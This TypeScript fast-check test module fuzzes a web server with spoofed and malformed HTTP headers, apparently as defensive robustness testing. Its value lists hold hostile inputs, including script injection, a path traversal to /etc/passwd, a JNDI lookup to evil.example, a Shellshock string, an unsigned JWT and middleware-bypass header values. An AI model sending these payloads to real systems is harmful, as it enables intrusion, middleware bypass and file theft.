import * as fc from 'fast-check';
import { withHeader } from '../draft.js';
import { hostile, idle, type Kind } from './kind.js';

const NOT_AN_ADDRESS = [
  ...[
    '1.2.3.4:5555',
    '[::1]:80',
    '::1',
    'unknown',
    '999.1.1.1',
    '127.0.0.1, 10.0.0.1:99999',
    '::ffff:999.1.1.1',
    '',
  ],
  ...[
    `'"><script>alert(1)</script>`,
    '\xf0\x9f\x8e\xab',
    '1.2.3.4, '.repeat(400),
    '_hidden, _secret',
    '0x7f.1',
  ],
];
const NOT_A_HOST = [
  'evil.example',
  'evil.example:80',
  'localhost:0',
  '[::1',
  'a b',
  'localhost, evil.example',
  '\x80',
  '@',
  '/',
];
const JUNK = [
  ...[
    '',
    ' ',
    '\t',
    '%',
    '%00',
    '\xff\xfe',
    '*',
    '__proto__',
    '{"$ne":null}',
    '"',
    '""',
    ',,,,',
    ';;;;',
    '=',
  ],
  ...[
    'a'.repeat(8_000),
    '../../../../etc/passwd',
    '${jndi:ldap://evil.example/a}',
    '() { :;}; echo hostile',
    '-1',
    'NaN',
  ],
];
const all = (names: readonly string[], values: readonly string[]) =>
  names.flatMap((name) => values.map((value): [string, string] => [name, value]));

const HEADERS: readonly (readonly [name: string, value: string])[] = [
  ...all(['X-Forwarded-For', 'X-Real-IP', 'True-Client-IP'], NOT_AN_ADDRESS),
  ...all(['X-Forwarded-Host', 'X-Forwarded-Port', 'X-Host', 'Forwarded'], NOT_A_HOST),
  ...all(['X-Forwarded-Proto'], ['https', 'https, http', 'javascript', '']),
  ...all(
    ['X-Original-URL', 'X-Rewrite-URL', 'X-Matched-Path', 'X-Invoke-Path', 'Next-Url'],
    ['/metrics', '/api/orders', '//evil.example'],
  ),
  ...all(
    ['X-Middleware-Subrequest'],
    [
      'middleware',
      'proxy',
      'src/middleware',
      'proxy:'.repeat(5) + 'proxy',
      'middleware:'.repeat(5) + 'middleware',
    ],
  ),
  ...all(
    ['X-Middleware-Rewrite', 'X-Middleware-Next', 'X-Middleware-Override-Headers', 'X-Action-Forwarded'],
    ['1', '/metrics', 'cookie'],
  ),
  ...all(
    [
      'RSC',
      'Next-Router-Prefetch',
      'Next-Router-State-Tree',
      'Next-Router-Segment-Prefetch',
      'X-Nextjs-Data',
      'Next-HMR-Refresh',
    ],
    ['1', '%', '[]', '%5B%22%22%5D', '/_tree', 'x'.repeat(4_000)],
  ),
  ...all(
    [
      'Accept',
      'Accept-Encoding',
      'Accept-Language',
      'Accept-Charset',
      'User-Agent',
      'Referer',
      'Via',
      'Warning',
    ],
    JUNK,
  ),
  ...all(
    ['If-Match', 'If-None-Match', 'If-Modified-Since', 'If-Range', 'Cache-Control', 'Pragma', 'Max-Forwards'],
    JUNK,
  ),
  ...all(['Range'], ['bytes=0-', 'bytes=0-0,'.repeat(500) + '1-1', 'bytes=-1', 'bytes=9999999999-', 'x=1']),
  ...all(
    ['Authorization', 'Proxy-Authorization'],
    ['Basic \xff', 'Bearer eyJhbGciOiJub25lIn0.e30.', 'Digest', ''],
  ),
  ...all(
    [
      'Idempotency-Key',
      'traceparent',
      'tracestate',
      'baggage',
      'X-Request-Id',
      'Priority',
      'Purpose',
      'DNT',
      'Save-Data',
    ],
    JUNK,
  ),
  ...all(
    ['traceparent'],
    [
      '00-00000000000000000000000000000000-0000000000000000-00',
      'ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
    ],
  ),
  ...all(['Expect'], ['100-continue', 'x', '']),
  ...all(['Keep-Alive'], ['timeout=999999999, max=0', 'x']),
  ...all(['TE', 'Trailer', 'Proxy-Connection'], ['trailers', 'gzip;q=1', 'Content-Length', 'x']),
  ...all(['__proto__', 'constructor', 'X-$ne', 'toString', 'X'.repeat(300)], JUNK),
];

/** Headers that a proxy, Next.js or Express may believe, and headers full of nonsense. */
export const headers: Kind = {
  name: 'headers',
  suits: () => true,
  draw: (target, world, unique) => {
    const send = (what: string, added: readonly (readonly [string, string])[]) => {
      const draft = idle(target, world, unique);
      const changed = added.reduce((all, [name, value]) => withHeader(all, name, value), draft);
      return hostile(changed, world, { what, must: 'do no harm' });
    };
    const known = fc
      .uniqueArray(fc.constantFrom(...HEADERS), { minLength: 1, maxLength: 4, selector: ([name]) => name })
      .map((some) =>
        send(some.map(([name, value]) => `${name}: ${JSON.stringify(value.slice(0, 30))}`).join(', '), some),
      );
    const random = fc
      .tuple(fc.stringMatching(/^[A-Za-z][A-Za-z0-9-]{0,20}$/), fc.stringMatching(/^[ -~\x80-\xff]{0,200}$/))
      .filter(
        ([name]) => !/^(host|connection|upgrade|expect|content-|transfer-|cookie|next-action)/i.test(name),
      )
      .map((header) => send(`a header of random letters: ${header[0]}`, [header]));
    const many = fc.constantFrom(100, 1_000, 3_000).map((count) =>
      send(
        `${count} headers`,
        Array.from({ length: count }, (_, index): [string, string] => [`X-${index}`, '1']),
      ),
    );
    const huge = fc
      .constantFrom(16_000, 100_000, 1_000_000)
      .map((size) => send(`a header of ${size} bytes`, [['X-Huge', 'x'.repeat(size)]]));
    return fc.oneof({ weight: 10, arbitrary: known }, { weight: 2, arbitrary: random }, many, huge);
  },
};
